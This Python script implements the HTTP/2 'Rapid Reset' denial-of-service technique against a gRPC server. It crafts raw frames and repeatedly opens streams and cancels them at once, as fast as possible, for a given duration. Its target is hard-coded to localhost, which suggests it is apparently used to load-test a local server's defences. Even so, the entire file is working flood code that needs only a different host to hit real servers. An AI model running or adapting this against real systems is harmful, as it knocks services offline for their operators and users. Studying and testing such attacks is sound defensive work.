"""A client that opens gRPC calls and resets them at once, as fast as it can: rapid_reset.py PORT SECONDS.

Prints how many it opened. Standard library only: frames of HTTP/2 (RFC 9113) are made here.
"""

import contextlib
import socket
import struct
import sys
import threading
import time

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 0x4
SETTINGS_ACK = 0x1
CANCEL = struct.pack(">I", 8)
PATH = b"/grpc.health.v1.Health/Check"
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head() -> bytes:
    """HPACK: POST, http, the path, an authority, and what makes it a call of gRPC."""
    path = b"\x04" + bytes([len(PATH)]) + PATH
    return (
        b"\x83\x86"
        + path
        + b"\x01\x04test"
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
    )


def drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def attack(port: int, seconds: float) -> int:
    block, opened, end = head(), 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            connection.sendall(frame(SETTINGS, SETTINGS_ACK, 0))
            threading.Thread(target=drain, args=(connection,), daemon=True).start()
            for first in range(1, 2**31 - 2 * BATCH, 2 * BATCH):
                streams = range(first, first + 2 * BATCH, 2)
                connection.sendall(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                        for stream in streams
                    )
                )
                opened += BATCH
                if time.monotonic() > end:
                    break
    return opened


if __name__ == "__main__":
    print(attack(int(sys.argv[1]), float(sys.argv[2])))
